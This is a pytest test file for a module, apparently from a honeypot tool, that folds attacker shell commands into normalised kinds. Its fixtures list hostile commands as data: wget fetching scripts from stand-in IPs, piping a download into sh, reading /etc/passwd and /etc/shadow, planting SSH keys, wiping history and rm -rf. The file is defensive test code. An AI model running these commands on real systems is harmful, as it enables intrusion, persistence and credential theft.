"""The kind of a line: what an attacker changes is folded, what the line does stays."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.ttp.linekinds import KEYS, MAX_KIND_CHARS, MAX_READ_CHARS, NOTHING, folded, kind_of


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("wget http://203.0.113.9/a.sh -O /tmp/x", "wget URL -O PATH"),
        ("sudo -n wget  'http://198.51.100.2/b' -O /opt/y", "wget URL -O PATH"),
        ("cat /proc/4711/exe", "cat /proc/N/exe"),
        ("cat /etc/passwd", "cat /etc/passwd"),
        ("cd /dev/shm || cd /var/run || cd /tmp", "cd PATH …"),
        ("/bin/busybox GIUSR", "busybox NAME"),
        ("./k4x", "./NAME"),
        ("/usr/bin/k4x -p 22", "PATH/NAME -p N"),
        ("k4x", "NAME"),
        ("$x /tmp/a", "VAR PATH"),
        ("X=1 Y=2", "VAR="),
        ("kill -9 4711 4712", "kill -N N …"),
        ('echo "a b\\nc" | passwd', "echo TEXT | passwd"),
        ("echo -e '\\x6f\\x6b'", "echo -e HEX"),
        ("sh -c 'rm -rf /tmp/a; reboot'", "sh -c (rm -rf PATH; reboot)"),
        ("systemctl stop plum.service", "systemctl stop NAME"),
        ("chmod 777 plum; chmod +x pear", "chmod MODE NAME …"),
        ("ssh root@203.0.113.4 -p 2222", "ssh ADDRESS -p N"),
        ("echo a >> /root/.ssh/authorized_keys", "echo NAME >> HOME/.ssh"),
        ("echo a > .bash_history", "echo NAME > HOME/.bash_history"),
        ("echo AAAAB3NzaC1yc2EAAAADAQABAAABAQ== > k", "echo TEXT > NAME"),
        ("nice --adjustment=5 uname --kernel=4.19", "uname --kernel=N"),
        ("echo $(cat plum)", "echo VAR; (cat NAME)"),
        ("cat << E\nplum\nE", "cat << TEXT"),
        ("\x1b[3P\x1b[29@wget a", KEYS),
        ("", NOTHING),
        ("# only a comment", NOTHING),
    ],
)
def test_a_line_is_folded_to_what_it_does(line: str, kind: str) -> None:
    assert kind_of(line) == kind


def test_what_differs_in_meaning_is_not_one_kind() -> None:
    lines = ("cat /etc/shadow", "cat /etc/passwd", "rm -rf a", "rm a", "crontab -l", "crontab -r", "service a stop", "wget http://a/b", "wget http://a/b | sh")  # fmt: skip
    assert len({kind_of(line) for line in lines}) == len(lines)


def test_a_kind_is_short_however_long_the_line() -> None:
    long = "; ".join(f"prog{n} -a{n} | cat --option-{'x' * n}" for n in range(1, 400))
    assert len(kind_of(long)) == MAX_KIND_CHARS
    assert kind_of(long).endswith("…")
    assert kind_of("a" * MAX_READ_CHARS + "; reboot") == kind_of("a" * MAX_READ_CHARS + "; halt")


@given(st.text(max_size=300))
def test_any_text_has_a_kind(line: str) -> None:
    assert 0 < len(kind_of(line)) <= MAX_KIND_CHARS
    assert folded(line)


def test_a_kind_costs_little_on_a_hostile_line() -> None:
    lines = ("$(" * 2000, "'" * 4000, "a=" * 2000, "\\x41" * 1000, "1.1.1." * 600, ":" * 4000, "/" * 4000)
    start = time.process_time()
    for line in lines:
        kind_of(line)
    assert time.process_time() - start < 1.0
